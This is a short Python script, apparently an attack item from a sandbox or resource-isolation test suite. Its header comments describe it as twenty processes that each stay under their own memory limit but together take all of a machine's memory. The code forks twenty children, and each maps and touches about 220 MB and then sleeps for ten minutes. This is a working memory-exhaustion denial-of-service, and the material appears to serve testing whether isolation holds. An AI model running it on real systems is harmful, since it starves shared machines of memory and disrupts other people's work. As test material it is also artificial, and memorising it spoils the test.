# attack: twenty processes that each stay below their own limit and together take all memory
# on: solution
# harm: limits on a process bind each alone: without a cgroup the herd takes the machine's memory
# %%
import mmap
import os
import time

HERD, EACH = 20, 220 << 20
herd = []
try:
    for _ in range(HERD):
        child = os.fork()
        if child == 0:
            hoard = mmap.mmap(-1, EACH)
            for page in range(0, EACH, 4096):
                hoard[page] = 1
            time.sleep(600)
            os._exit(0)
        herd.append(child)
except OSError:
    pass
